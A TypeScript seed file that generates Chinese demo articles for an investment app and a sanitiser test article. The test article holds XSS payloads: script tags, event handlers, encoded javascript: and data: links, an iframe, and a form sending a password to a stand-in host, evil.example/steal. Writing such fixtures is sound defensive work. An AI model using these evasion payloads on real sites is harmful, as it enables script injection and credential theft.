/**
 * Demo article bodies for the seed (server/src/demo/seed.ts): plausible HTML with the elements
 * the article page shows (headings, lists, a quote, an image, links to another article and to a
 * page outside), an explanation article for every adjustment of a demo strategy, and one article
 * that exists to show the sanitiser at work: it carries hostile markup, stored as it is (as if
 * written around the import), which every read answers inert.
 */

/** The app address of an article: the link rules open it inside the app. */
export const articlePath = (articleId: string) => `/subPkg/pages/article/index?articleId=${encodeURIComponent(articleId)}`

const TOPICS: Record<string, string[]> = {
  如何看待市场波动: ['波动是权益资产的常态，短期涨跌难以预测。', '拉长持有期，收益的分布会明显收窄。'],
  定投的正确姿势: ['定投把一次买入拆成多次，摊薄买入成本。', '坚持比择时更重要，止盈规则要提前定好。'],
  债券基金怎么选: ['看久期：久期越长，对利率越敏感。', '看信用：信用债收益更高，也承担违约风险。'],
  什么是最大回撤: ['最大回撤是从最高点到最低点的最大跌幅。', '它衡量的是“最坏时亏多少”，比波动率更直观。'],
  再平衡的意义: ['再平衡让组合回到目标比例，卖高买低。', '它控制风险，而不是追求收益最大化。'],
  全球配置入门: ['不同市场的涨跌并不同步，分散可以降低整体波动。', '海外资产还要考虑汇率的影响。'],
}

/** The body of demo article `index`, titled by its topic; `next` is another article it links to. */
export function demoArticleHtml(index: number, topic: string, next: string | null): string {
  const [first, second] = TOPICS[topic] ?? ['投资需要耐心。', '分散配置，长期持有。']
  return [
    `<p><strong>演示数据</strong>：本文为演示内容，不构成投资建议。</p>`,
    `<h2>${topic}</h2>`,
    `<p>${first}</p>`,
    `<blockquote>${second}</blockquote>`,
    `<p><img src="/alfa/static/demo/v1/article/${index % 10}-thumb.png" alt="${topic}配图" width="640" height="480"></p>`,
    `<h3>要点</h3>`,
    `<ul><li>先想清楚这笔钱能放多久</li><li>按风险承受能力选择资产</li><li>定期检视，而不是频繁操作</li></ul>`,
    next ? `<p>延伸阅读：<a href="${articlePath(next)}">下一期文章</a></p>` : '',
    `<p>更多内容见 <a href="https://www.alfa.example/learn">投资学堂</a>。</p>`,
  ].join('')
}

/** The explanation article of a demo strategy's adjustment (its 调仓说明). */
export function adjustmentArticleHtml(
  comment: string,
  date: string,
  moves: ReadonlyArray<{ fundName: string; fundCode: string; before: number; after: number }>,
): string {
  const percent = (v: number) => `${(v * 100).toFixed(2)}%`
  const list = moves.map((m) => `<li>${m.fundName}（${m.fundCode}）：${percent(m.before)} → ${percent(m.after)}</li>`).join('')
  return [
    `<p><strong>演示数据</strong>：本文为演示内容，不构成投资建议。</p>`,
    `<h2>调仓说明</h2>`,
    `<p>${date}，组合进行了调仓：${comment.replace(/^第\d+次调仓：/, '')}。</p>`,
    ...(moves.length ? [`<p>本次调整的基金：</p>`, `<ul>${list}</ul>`] : []),
    `<p>调仓的原因：</p>`,
    `<ol><li>各类资产的估值水平发生了变化</li><li>组合偏离目标比例超过了再平衡阈值</li></ol>`,
    `<p>调仓后组合的风险等级不变。已跟投的用户可在调仓记录中一键跟随调仓。</p>`,
  ].join('')
}

/** The article that tests the sanitiser: every payload in it must arrive inert. */
export const SAFETY_ARTICLE = {
  articleId: 'A-SAFETY-TEST',
  title: '安全测试：含恶意代码的演示文章（所有代码应已失效）',
  author: '安全测试',
  html: [
    `<p><strong>演示数据 · 安全测试</strong>：本文故意含有脚本、事件处理器、javascript: 与 data: 链接，用来检验文章的净化。你看到的内容应只有文字，点击任何地方都不会执行代码。</p>`,
    `<script>window.__alfaPwned = 'script'</script>`,
    `<p onclick="window.__alfaPwned = 'onclick'" onmouseover="window.__alfaPwned = 'onmouseover'">这一段带有 onclick 与 onmouseover 事件处理器。</p>`,
    `<p><img src="https://www.alfa.example/no-such.png" onerror="window.__alfaPwned = 'onerror'" alt="带 onerror 的图片"></p>`,
    `<p><a href="javascript:window.__alfaPwned = 'javascript'">javascript: 链接</a></p>`,
    `<p><a href="&#106;avascript&#58;window.__alfaPwned = 'entity'">实体编码的 javascript: 链接</a></p>`,
    `<p><a href=" JaVa&#x09;ScRiPt:window.__alfaPwned = 'mixed'">大小写与制表符混写的 javascript: 链接</a></p>`,
    `<p><a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19hbGZhUHduZWQ9J2RhdGEnPC9zY3JpcHQ+">data: 链接</a></p>`,
    `<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="data: 图片"></p>`,
    `<iframe src="javascript:window.__alfaPwned = 'iframe'"></iframe>`,
    `<style>body { display: none }</style>`,
    `<svg onload="window.__alfaPwned = 'svg'"><circle r="10"></circle></svg>`,
    `<form action="https://evil.example/steal"><input name="password" value="x"><button>提交</button></form>`,
    `<p style="position:fixed;top:0;left:0;width:100%;height:100%">带 style 的段落（样式已去除）。</p>`,
    `<p><a href="https://www.alfa.example/learn">普通的 https 链接</a>仍可点击。</p>`,
  ].join(''),
}
